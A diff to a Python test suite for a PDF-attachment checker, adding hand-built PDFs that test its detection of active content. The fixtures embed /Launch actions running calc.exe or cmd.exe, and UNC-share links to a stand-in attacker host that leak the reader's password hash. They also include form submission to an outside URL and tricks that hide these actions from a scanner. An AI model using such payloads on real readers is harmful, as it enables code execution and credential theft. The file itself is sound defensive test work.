@@ -867,6 +867,73 @@ def _escaped_js_name(data: bytes) -> bytes:
     return data.replace(b"/JS ", b"/J#53 ")
 
 
+def _raw_pdf(objects: dict[int, bytes], packed: tuple[int, ...] = ()) -> bytes:
+    """A one-page PDF written by hand, for what pypdf will not write: objects 1 to 4 are
+    the catalog, the page tree, the page and its contents unless `objects` gives them.
+    The objects numbered in `packed` are kept in an object stream, and the
+    cross-reference table is then a stream too."""
+    bodies = {
+        1: b"<< /Type /Catalog /Pages 2 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        4: b"<< /Length 0 >>\nstream\n\nendstream",
+        **objects,
+    }
+    out = bytearray(b"%PDF-1.7\n")
+    offsets: dict[int, int] = {}
+    for number in sorted(set(bodies) - set(packed)):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + bodies[number] + b"\nendobj\n"
+    size = max(bodies) + 1
+    if not packed:
+        table = len(out)
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+        for number in range(1, size):
+            out += (
+                b"%010d 00000 n \n" % offsets[number]
+                if number in offsets
+                else b"0000000000 65535 f \n"
+            )
+        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, table)
+        return bytes(out)
+    header = data = b""
+    for number in packed:
+        header += b"%d %d " % (number, len(data))
+        data += bodies[number] + b"\n"
+    stream, xref = size, size + 1
+    offsets[stream] = len(out)
+    head = b"<< /Type /ObjStm /N %d /First %d /Length %d >>" % (
+        len(packed),
+        len(header),
+        len(header + data),
+    )
+    out += b"%d 0 obj\n" % stream + head + b"\nstream\n" + header + data + b"\nendstream\nendobj\n"
+    offsets[xref] = len(out)
+    rows = b"\x00\x00\x00\x00\x00\xff\xff"
+    for number in range(1, xref + 1):
+        if number in packed:
+            rows += b"\x02" + stream.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big")
+        elif number in offsets:
+            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
+        else:
+            rows += b"\x00\x00\x00\x00\x00\x00\x00"
+    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (xref + 1, len(rows))
+    out += b"%d 0 obj\n" % xref + head + b"\nstream\n" + rows + b"\nendstream\nendobj\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref]
+    return bytes(out)
+
+
+# A catalog or an action with /K was taken for a structure element, whose /S names a
+# role and whose /A holds attributes, and none of these was looked at (a second review).
+SHARE = rb"(\\\\hyokkaaja.example\\jako\\x.pdf)"  # \\hyokkaaja.example\jako\x.pdf
+OPENS_5_K = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /K 0 >>"
+PAGE_LINK = (
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>"
+)
+WHICH = "which starts a program, opens another file, sends data or plays media"
+LINK_K = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /K 0 /A "
+
+
 ACTIVE_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
     "javascript-on-open": (
         lambda: _pdf(1, _catalog("/OpenAction", lambda w: _js())),
@@ -922,6 +989,75 @@ ACTIVE_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
         "holds an XFA form, which can run scripts",
     ),
     "rich-media": (lambda: _pdf(1, _media), "holds media, Flash or 3D content"),
+    "catalog-with-k-launches-on-open": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /Launch /F (calc.exe) /K 0 >>"}),
+        "has a /Launch action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-opens-a-windows-share": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /GoToR /F " + SHARE + b" /D [0 /Fit] /K 0 >>"}),
+        "has a /GoToR action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-submits-a-form": (
+        lambda: _raw_pdf(
+            {
+                1: OPENS_5_K,
+                5: b"<< /S /SubmitForm /F << /FS /URL /F (https://x.example/) >> /K 0 >>",
+            }
+        ),
+        "has a /SubmitForm action that runs when the file is opened (object 1)",
+    ),
+    "catalog-with-k-goes-to-an-embedded-file": (
+        lambda: _raw_pdf(
+            {1: OPENS_5_K, 5: b"<< /S /GoToE /F " + SHARE + b" /T << /R /C /N (x) >> /K 0 >>"}
+        ),
+        "has a /GoToE action that runs when the file is opened (object 1)",
+    ),
+    "structure-element-importing-data-on-open": (
+        lambda: _raw_pdf(
+            {1: OPENS_5_K, 5: b"<< /Type /StructElem /S /ImportData /F " + SHARE + b" >>"}
+        ),
+        "has a /ImportData action that runs when the file is opened (object 1)",
+    ),
+    "link-with-k-launches": (
+        lambda: _raw_pdf(
+            {3: PAGE_LINK, 5: LINK_K + b"6 0 R >>", 6: b"<< /S /Launch /F (cmd.exe) /K 0 >>"}
+        ),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    "link-with-k-launches-directly": (
+        lambda: _raw_pdf({3: PAGE_LINK, 5: LINK_K + b"<< /S /Launch /F (cmd.exe) /K 0 >> >>"}),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    "catalog-with-k-launches-from-an-object-stream": (
+        lambda: _raw_pdf({1: OPENS_5_K, 5: b"<< /S /Launch /F (calc.exe) /K 0 >>"}, packed=(1, 5)),
+        "has a /Launch action that runs when the file is opened (object 1)",
+    ),
+    "launch-marked-as-a-structure-element-from-a-link": (
+        lambda: _raw_pdf(
+            {
+                3: PAGE_LINK,
+                5: LINK_K + b"6 0 R >>",
+                6: b"<< /Type /StructElem /S /Launch /F (cmd.exe) >>",
+            },
+            packed=(5, 6),
+        ),
+        f"has a /Launch action, {WHICH} (object 5)",
+    ),
+    # A thread action with /F goes to a thread in another file: a share leaks the
+    # reader's password hash as GoToR does.
+    "thread-in-another-file-from-a-link": (
+        lambda: _raw_pdf({3: PAGE_LINK, 5: LINK_K + b"<< /S /Thread /F " + SHARE + b" /D 0 >> >>"}),
+        f"has a /Thread action, {WHICH} (object 5)",
+    ),
+    "thread-in-another-file-after-opening": (
+        lambda: _raw_pdf(
+            {
+                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] "
+                b"/Next << /S /Thread /F " + SHARE + b" /D 0 >> >> >>"
+            }
+        ),
+        f"has a /Thread action, {WHICH} (object 1)",
+    ),
 }
 
 
@@ -932,6 +1068,29 @@ def test_a_pdf_with_active_content_is_a_located_problem(name: str, tmp_path: Pat
     found = _refused(root, line, column, "attachment-active")
     assert f"error[attachment-active]: 'liitteet/liite.pdf' {finding}" in found
     assert "a PDF is published only without scripts" in found
+
+
+def test_a_tagged_pdf_whose_roles_are_named_like_actions_passes() -> None:
+    """In the structure tree, /S names a role and /A holds attributes: an element reached
+    from /StructTreeRoot (which need not say /Type /StructElem) with a role of the file's
+    own named Sound, its child with layout attributes, and a thread in the same file."""
+    catalog = (
+        b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 6 0 R /MarkInfo << /Marked true >> "
+        b"/Threads [8 0 R] >>"
+    )
+    data = _raw_pdf(
+        {
+            1: catalog,
+            3: PAGE_LINK,
+            5: LINK_K + b"<< /S /Thread /D 0 >> >>",
+            6: b"<< /Type /StructTreeRoot /K [7 0 R] /RoleMap << /Sound /Span >> >>",
+            7: b"<< /S /Sound /P 6 0 R /K [<< /S /P /K 0 /A << /O /Layout /Placement /Block >> >>"
+            b" << /Type /OBJR /Obj 5 0 R >>] >>",
+            8: b"<< /Type /Thread /F 9 0 R >>",
+            9: b"<< /Type /Bead /T 8 0 R /N 9 0 R /V 9 0 R /P 3 0 R /R [0 0 10 10] >>",
+        }
+    )
+    assert attachment_pdf.inspect(data) == (None, 1)
 
 
 def test_a_linked_pdf_is_checked_for_active_content_too(tmp_path: Path) -> None:
